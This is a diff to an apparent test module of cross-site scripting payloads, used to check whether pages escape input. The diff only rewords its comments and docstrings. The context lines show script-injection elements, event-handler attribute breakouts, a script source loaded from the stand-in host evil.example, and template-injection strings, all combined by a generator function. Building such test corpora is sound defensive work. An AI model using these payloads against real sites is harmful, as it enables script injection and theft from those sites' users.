@@ -1,4 +1,4 @@
-"""Texts that would run as a script if a page did not escape them. Each calls `xss()`."""
+"""Texts that would run as script if a page did not escape them. Each calls `xss()`."""
 
 from __future__ import annotations
 
@@ -7,7 +7,7 @@ from collections.abc import Iterator
 from typing import Final
 from urllib.parse import quote
 
-#: What runs by itself, or as soon as somebody touches it.
+#: Elements that run by themselves or on the first interaction.
 ELEMENTS: Final = (
     "<script>xss()</script>",
     "<script src=data:,xss()></script>",
@@ -45,7 +45,7 @@ ELEMENTS: Final = (
     "<template><img src=x onerror=xss()></template>",
 )
 
-#: What ends the place in which a text stands.
+#: Sequences that close the context in which a text is placed.
 ENDS: Final = (
     "",
     '">',
@@ -63,7 +63,7 @@ ENDS: Final = (
     "\x00",
 )
 
-#: What would become an attribute beside the one in which a text stands.
+#: Texts that would become a second attribute.
 EVENTS: Final = (
     "onclick",
     "onfocus",
@@ -88,7 +88,7 @@ SCHEMES: Final = (
     "//evil.example/xss.js",
 )
 
-#: Other languages that a page could be written in, and texts in disguise.
+#: Other template and script languages, and disguised texts.
 OTHERS: Final = (
     "{{constructor.constructor('xss()')()}}",
     "{{ 7*7 }}",
@@ -134,7 +134,7 @@ OTHERS: Final = (
 
 
 def all_payloads() -> Iterator[str]:
-    """Every payload once."""
+    """Yield every payload once."""
     yield from ["".join(pair) for pair in itertools.product(ENDS, ELEMENTS)]
     for quote_sign, event in itertools.product(QUOTES, EVENTS):
         yield f"x{quote_sign} {event}=xss() autofocus tabindex=1 x={quote_sign}"
